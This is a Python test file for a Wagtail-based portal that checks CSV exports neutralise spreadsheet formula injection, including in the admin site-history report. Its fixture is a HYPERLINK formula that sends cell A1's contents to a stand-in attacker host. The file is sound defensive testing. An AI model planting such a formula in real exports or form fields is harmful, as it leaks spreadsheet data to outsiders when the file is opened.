"""Every CSV the portal writes, its own and Wagtail's, neutralises formula-like text."""

import csv
import io

import pytest

from portal.exports import csv_safe
from portal.services.memberships import request_membership

FORMULA = '=HYPERLINK("https://angripare.example/?d="&A1;"Klicka")'


@pytest.mark.parametrize(
    "typed", [FORMULA, "+46 70 123 45 67", "-1+1", "@SUMMA(A1:A9)", "\t=1+1", "\r=1+1"]
)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote(typed):
    assert csv_safe(typed) == "'" + typed


@pytest.mark.parametrize(
    "value", ["Kalmar", "Bo-Göran", "e-post@kalmar.se", "", " =mellanslag först", 3, -3, 2.5, None]
)
def test_ordinary_values_and_numbers_the_code_writes_are_unchanged(value):
    assert csv_safe(value) == value


def test_the_site_history_csv_neutralises_a_name_typed_as_a_formula(
    client, make_person, kalmar, editor
):
    attacker = make_person("a@example.se", first_name=FORMULA)
    attacker.last_name = ""
    attacker.save()
    request_membership(
        attacker, kalmar.organisation
    )  # logged: label and user are the person's name
    client.force_login(editor)
    export = client.get("/admin/reports/site-history/?export=csv")
    assert export.status_code == 200
    text = b"".join(export.streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULA in cells
    assert not any(cell.startswith("=") for cell in cells)
